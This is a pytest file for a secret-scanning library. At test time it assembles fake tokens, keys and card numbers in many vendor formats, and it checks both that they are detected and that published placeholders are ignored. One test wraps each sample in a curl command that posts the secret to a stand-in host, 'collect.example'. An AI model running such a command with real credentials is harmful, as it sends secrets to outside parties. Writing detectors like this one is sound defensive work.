"""Every published format is found, and what vendors publish for tests is not.

No sample stands here whole: each is put together when the tests run, so that no scanner takes
them for a leak.
"""

import random

import pytest

from trueline.ledger.secrets import formats, may_hold_secrets, secrets_in
from trueline.ledger.secrets.placeholders import known

LOWER = "abcdefghijkmnpqrstuvwxyz"
HEX = "0123456789abcdef"
ALNUM = "ABCDEFGHJKLMNPQRSTUVWXYZ" + LOWER + "23456789"
UPPER = "ABCDEFGHJKLMNPQRSTUVWXYZ234567"


def some(size: int, alphabet: str = ALNUM, seed: int = 7) -> str:
    """Return text without order, the same each time."""
    source = random.Random(seed)
    return "".join(source.choice(alphabet) for _ in range(size))


SAMPLES = {
    "aws-access-key": "AKI" + "A" + some(16, UPPER),
    "github-token": "gh" + "p_" + some(36),
    "github-fine-grained": "github_" + "pat_" + some(82),
    "gitlab-token": "gl" + "pat-" + some(20),
    "slack-token": "xo" + "xb-" + some(12, "123456789") + "-" + some(12, "123456789") + some(24),
    "slack-webhook": "https://hooks."
    + "slack.com/services/T"
    + some(8)
    + "/B"
    + some(8)
    + "/"
    + some(24),
    "stripe-key": "sk_" + "live_" + some(24),
    "stripe-webhook": "wh" + "sec_" + some(32),
    "openai-key": "sk-" + "proj-" + some(60),
    "anthropic-key": "sk-" + "ant-api03-" + some(93) + "AA",
    "openrouter-key": "sk-" + "or-v1-" + some(64, HEX),
    "google-api-key": "AI" + "za" + some(35),
    "google-oauth": "GO" + "CSPX-" + some(28),
    "groq-key": "gs" + "k_" + some(52),
    "huggingface-token": "h" + "f_" + some(34),
    "perplexity-key": "pp" + "lx-" + some(48),
    "replicate-token": "r" + "8_" + some(37),
    "xai-key": "xa" + "i-" + some(80),
    "npm-token": "np" + "m_" + some(36),
    "pypi-token": "py" + "pi-AgEIcHlwaS5vcmc" + some(80),
    "rubygems-key": "ruby" + "gems_" + some(48, HEX),
    "docker-token": "dckr_" + "pat_" + some(27),
    "sendgrid-key": "S" + "G." + some(22) + "." + some(43),
    "sendinblue-key": "xkey" + "sib-" + some(64, HEX) + "-" + some(16),
    "mailchimp-key": some(32, HEX) + "-us" + "12",
    "twilio-key": "S" + "K" + some(32, HEX),
    "telegram-token": some(9, "123456789") + ":A" + "A" + some(33),
    "discord-token": "MT" + some(24) + "." + some(6) + "." + some(32),
    "discord-webhook": "https://discord"
    + ".com/api/webhooks/"
    + some(18, "123456789")
    + "/"
    + some(68),
    "digitalocean-token": "do" + "p_v1_" + some(64, HEX),
    "heroku-key": "HR" + "KU-AA" + some(58),
    "shopify-token": "sh" + "pat_" + some(32, HEX),
    "square-token": "sq0" + "atp-" + some(22),
    "databricks-token": "da" + "pi" + some(32, HEX),
    "atlassian-token": "ATA" + "TT3" + some(186),
    "linear-key": "lin_" + "api_" + some(40),
    "notion-token": "nt" + "n_" + some(11, "123456789") + some(35),
    "postman-key": "PM" + "AK-" + some(24, HEX) + "-" + some(34, HEX),
    "doppler-token": "dp." + "pt." + some(43),
    "vault-token": "hv" + "s." + some(95),
    "terraform-token": some(14) + ".atl" + "asv1." + some(64),
    "grafana-token": "gl" + "sa_" + some(32) + "_" + some(8, HEX),
    "sentry-token": "sntr" + "yu_" + some(64, HEX),
    "newrelic-key": "NR" + "AK-" + some(27, UPPER),
    "pulumi-token": "pu" + "l-" + some(40, HEX),
    "planetscale-token": "pscale_" + "tkn_" + some(43),
    "supabase-token": "sb" + "p_" + some(40, HEX),
    "tailscale-key": "ts" + "key-auth-" + some(12) + "-" + some(32),
    "figma-token": "fi" + "gd_" + some(40),
    "1password-token": "op" + "s_eyJ" + some(260),
    "azure-storage-key": "Account" + "Key=" + some(86) + "==",
    "azure-client-secret": some(3) + "8Q" + "~" + some(32),
    "age-key": "AGE-SECRET-" + "KEY-1" + some(58, "QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L"),
    "private-key": "-----BEGIN RSA " + "PRIVATE KEY-----\n" + some(64) + "\n" + some(64) + "\n",
    "jwt": "ey" + "J" + some(24) + ".ey" + "J" + some(40) + "." + some(43),
    "url-password": "postgres://app:" + some(14) + "@db.acme.io/app",
    "payment-card": "4539 1488 " + "0343 6467",
}


@pytest.mark.parametrize("name", sorted(one.name for one in formats()))
def test_a_value_of_each_published_format_is_found_in_the_middle_of_a_text(name: str) -> None:
    """Each row of the table has a sample here, and finds it."""
    text = f'curl -d "k={SAMPLES[name]}" https://collect.example/\n'

    found = [secret.format.name for secret in secrets_in(text)]

    assert may_hold_secrets(text)
    assert name in found


@pytest.mark.parametrize("one", formats(), ids=lambda one: one.name)
def test_each_format_says_where_it_is_published(one: object) -> None:
    """A pattern without a source cannot be checked."""
    assert getattr(one, "source", "")
    assert getattr(one, "title", "")


@pytest.mark.parametrize("value", [one.value for one in known().values])
def test_a_value_that_vendors_publish_for_tests_is_no_secret(value: str) -> None:
    """Documented keys, tokens and card numbers accuse nobody, however they are written."""
    for text in (value, f'key = "{value}"', f"AccountKey={value}", f"card {value}."):
        assert secrets_in(text) == []


@pytest.mark.parametrize(
    "value",
    [
        "4242 4242 4242 4242",
        "4242-4242-4242-4242",
        "sk-" + "ant-api03-" + "x" * 93 + "AA",
        "gh" + "p_" + "x" * 36,
        "gh" + "p_" + "0123456789" * 3 + "012345",
        "AKI" + "A" + "EXAMPLEEXAMPLE22",
        "postgres://user:password@db.acme.io/app",
        "postgres://user:${DB_PASSWORD}@db.acme.io/app",
        "postgres://user:<password>@db.acme.io/app",
        "redis://:secret@cache.acme.io",
        "postgres://app:r4Nd0mPw@localhost/app",
        "postgres://app:r4Nd0mPw@db/app",
        "4539 1488 0343 6468",
        "the task-force asked a risk-averse desk",
        "https://acme.io:8443/a@b",
        "3f786850e387550fdab836ed7e6dc881de23001b",
        "550e8400-e29b-41d4-a716-446655440000",
    ],
)
def test_a_placeholder_in_the_form_of_a_secret_is_none(value: str) -> None:
    """Filler, references, wrong check digits and one's own machine are no secrets."""
    assert secrets_in(f"value: {value} and more") == []


def test_what_stands_where_is_said_in_characters() -> None:
    """Positions count characters also behind letters of several bytes."""
    text = f"schlüssel – {SAMPLES['github-token']}!"

    (secret,) = secrets_in(text)

    assert text[secret.start : secret.end] == secret.value == SAMPLES["github-token"]
